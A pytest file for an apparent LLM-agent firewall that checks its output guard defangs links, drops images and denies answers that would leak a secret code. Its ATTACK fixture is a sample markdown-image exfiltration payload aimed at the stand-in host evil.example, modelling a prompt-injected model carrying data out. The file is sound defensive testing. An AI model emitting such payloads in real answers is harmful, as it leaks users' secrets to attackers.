"""Answers of whole runs through the output guard: what the user is shown, by label."""

from __future__ import annotations

from typing import Any

import pytest

from ringfence import Firewall, labels, tool
from ringfence.config import Config
from ringfence.stores import MemoryStore
from ringfence.testing import ScriptedModel, ScriptedQuarantine

ATTACK = "![logo](https://evil.example/p.png?d={}) [more](https://evil.example/x) <b>now</b>"


@tool(effect="read")
def mail() -> str:
    """What somebody wrote."""
    return "Your code is 463820. Click https://mail.example/reset?t=463820"


@tool(effect="read", returns=labels(sources="user", own=False))
def note() -> str:
    """The user's own."""
    return "my page is https://mine.example/notes <b>x</b>"


def shown(plan: str, *answers: Any, request: str = "do it", **options: Any) -> Any:
    quarantine = ScriptedQuarantine(list(answers))
    with Firewall([mail, note], model=ScriptedModel([plan]), quarantine=quarantine, **options) as firewall:
        return firewall.run(request)


SUMMARY = 'found = quarantine("Summarise", mail(), returns=str)\nanswer(found)'


def test_a_model_in_the_attackers_hands_makes_no_link_and_no_image() -> None:
    result = shown(SUMMARY, ATTACK.format("hello"))
    assert result.text == "[image left out: logo] more (hxxps://evil[.]example/x) &lt;b>now&lt;/b>"


def test_an_answer_that_would_carry_data_out_is_stopped() -> None:
    result = shown(SUMMARY, ATTACK.format("463820"))
    assert (result.outcome, result.error.code, result.text) == ("denied", "P480", "")
    assert "463820" not in result.error.render()


def test_what_is_the_users_own_is_shown_as_it_is() -> None:
    assert shown("answer(note())").text == "my page is https://mine.example/notes <b>x</b>"


def test_each_part_of_an_answer_is_guarded_by_its_own_label() -> None:
    result = shown("answer([note(), mail()])")
    assert "https://mine.example/notes <b>x</b>" in result.text
    assert "hxxps://mail[.]example/reset?t=463820" in result.text


def test_a_host_that_the_request_or_the_plan_names_keeps_its_links() -> None:
    assert "https://mail.example/" in shown("answer(mail())", request="Is mail.example there?").text
    assert "https://mail.example/" in shown('here = "mail.example"\nanswer(mail())').text
    allowed = Config(output={"hosts": ["mail.example"]})
    assert "https://mail.example/" in shown("answer(mail())", policy=allowed).text


CODE = """
class Row(BaseModel):
    name: str
    id: str
event = Row(name="a", id="b")
x = event.{}
found = quarantine("Summarise{}", mail(), returns=str)
answer(found)
"""


@pytest.mark.parametrize("field", ["name", "id"])
def test_what_the_plan_says_in_code_names_no_host(field: str) -> None:
    """Anybody can register `event.name` and guess that plans read it: only what a plan writes as text names hosts."""
    assert shown(CODE.format(field, ""), f"[more](https://event.{field}/x)").text == f"more (hxxps://event[.]{field}/x)"
    assert shown(CODE.format(field, ""), f"https://event.{field}/?q=463820").outcome == "denied"
    assert shown(CODE.format(field, f" event.{field}"), f"https://event.{field}/x").text == f"https://event.{field}/x"


def test_a_host_that_untrusted_text_names_is_not_named() -> None:
    assert "https://mail.example" not in shown('x = mail()\nanswer(x + " " + x)').text


def test_the_program_gets_the_value_and_its_label() -> None:
    quarantine = ScriptedQuarantine([ATTACK.format("463820")])
    with Firewall([mail, note], quarantine=quarantine) as firewall:
        result = firewall.exec(SUMMARY)
    assert result.outcome == "completed"
    assert result.text == ""
    assert result.to_json()["answer"]["value"] == ATTACK.format("463820")


def test_what_was_found_is_in_the_audit_and_names_no_text() -> None:
    store = MemoryStore()
    with Firewall([mail], quarantine=ScriptedQuarantine([ATTACK.format("x")]), store=store) as firewall:
        firewall.exec(SUMMARY)
    records = [record.data for record in store.audit().records() if record.kind == "output"]
    assert records == ['{"found":{"html":2,"image":1,"link":1}}']


def test_an_answer_that_is_nested_more_deeply_than_can_be_shown_ends_like_any_other() -> None:
    deep = "x = mail()\nfor i in range(5000):\n    x = [x]\nanswer(x)"
    result = shown(deep)
    assert result.outcome == "completed"
    assert "https://" not in result.text


def test_what_does_not_print_is_marked_once() -> None:
    """The guard marks it in text of others, and the layout marks what is left; the first one's marks stay."""
    made = 'answer([{"text": quarantine("Summarise", mail(), returns=str), "n": 1}])'
    written = "12\u00a0EUR \u202e ⟨U+0041⟩ x" + "\u200b" * 9
    expected = "12⟨U+00A0⟩EUR ⟨U+202E⟩ ⟨U+27E8⟩U+0041⟨U+27E9⟩ x" + "⟨U+200B⟩" * 6 + "⟨and 3 more that do not print⟩"
    assert shown(SUMMARY, written).text == expected
    assert expected in shown(made, written).text
